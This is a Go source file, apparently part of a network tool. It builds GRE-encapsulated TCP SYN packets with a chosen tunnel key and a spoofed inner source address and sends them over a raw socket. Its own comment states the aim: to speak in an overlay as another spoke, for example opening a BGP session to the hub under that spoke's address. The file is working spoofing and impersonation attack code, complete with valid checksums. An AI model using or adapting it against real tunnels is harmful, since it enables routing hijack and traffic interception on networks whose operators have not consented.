package main

import (
	"encoding/binary"
	"errors"
	"flag"
	"fmt"
	"net/netip"
	"time"

	"golang.org/x/sys/unix"
)

// runSYN sends GRE (key, protocol IPv4) carrying TCP SYNs from -inner-src
// to -inner-dst port -port, to the NBMA -to, over a raw GRE socket: the
// kernel writes the outer header with this node's own address, so the
// packet leaves through its own SA. It is the key holder that speaks, in
// the overlay, with another spoke's tunnel address (e.g. opening a BGP
// session to the hub as that spoke).
func runSYN(g globals, args []string) error {
	fs := flag.NewFlagSet("syn", flag.ContinueOnError)
	var src, dst netip.Addr
	addrFlag(fs, &src, "inner-src", "inner IPv4 source (required)")
	addrFlag(fs, &dst, "inner-dst", "inner IPv4 destination (required)")
	port := fs.Uint("port", 179, "TCP destination port")
	if err := fs.Parse(args); err != nil {
		return err
	}
	if !g.to.IsValid() || !src.Is4() || !dst.Is4() || !g.to.Is4() {
		return errors.New("syn needs -to, -inner-src and -inner-dst (IPv4)")
	}
	fd, err := unix.Socket(unix.AF_INET, unix.SOCK_RAW, unix.IPPROTO_GRE)
	if err != nil {
		return fmt.Errorf("raw GRE socket: %w", err)
	}
	defer unix.Close(fd)
	for i := range g.count {
		if i > 0 {
			time.Sleep(g.gap)
		}
		pkt := greTCPSYN(uint32(g.key), src, dst, uint16(40000+i), uint16(*port), uint32(0x1000+i))
		if err := unix.Sendto(fd, pkt, 0, &unix.SockaddrInet4{Addr: g.to.As4()}); err != nil {
			return fmt.Errorf("send GRE to %v: %w", g.to, err)
		}
		if err := emit(record{Dir: "sent", Type: "tcp-syn", Peer: g.to.String(), Target: fmt.Sprintf("%v:%d", dst, *port), Bytes: len(pkt)}); err != nil {
			return err
		}
	}
	return nil
}

// greTCPSYN is a GRE header (key bit and key, protocol IPv4), an IPv4
// header and a TCP SYN with valid checksums.
func greTCPSYN(key uint32, src, dst netip.Addr, sport, dport uint16, seq uint32) []byte {
	b := make([]byte, 8+20+20)
	binary.BigEndian.PutUint16(b[0:], 0x2000) // K
	binary.BigEndian.PutUint16(b[2:], 0x0800)
	binary.BigEndian.PutUint32(b[4:], key)
	ip := b[8:28]
	ip[0] = 0x45
	binary.BigEndian.PutUint16(ip[2:], 40)
	ip[8] = 64
	ip[9] = unix.IPPROTO_TCP
	s, d := src.As4(), dst.As4()
	copy(ip[12:], s[:])
	copy(ip[16:], d[:])
	binary.BigEndian.PutUint16(ip[10:], checksum(ip, 0))
	tcp := b[28:]
	binary.BigEndian.PutUint16(tcp[0:], sport)
	binary.BigEndian.PutUint16(tcp[2:], dport)
	binary.BigEndian.PutUint32(tcp[4:], seq)
	tcp[12] = 5 << 4 // data offset
	tcp[13] = 0x02   // SYN
	binary.BigEndian.PutUint16(tcp[14:], 64240)
	pseudo := uint32(binary.BigEndian.Uint16(s[0:])) + uint32(binary.BigEndian.Uint16(s[2:])) +
		uint32(binary.BigEndian.Uint16(d[0:])) + uint32(binary.BigEndian.Uint16(d[2:])) +
		unix.IPPROTO_TCP + uint32(len(tcp))
	binary.BigEndian.PutUint16(tcp[16:], checksum(tcp, pseudo))
	return b
}

// checksum is the Internet checksum of b, starting from sum.
func checksum(b []byte, sum uint32) uint16 {
	for i := 0; i+1 < len(b); i += 2 {
		sum += uint32(binary.BigEndian.Uint16(b[i:]))
	}
	if len(b)%2 == 1 {
		sum += uint32(b[len(b)-1]) << 8
	}
	for sum > 0xffff {
		sum = sum&0xffff + sum>>16
	}
	return ^uint16(sum)
}
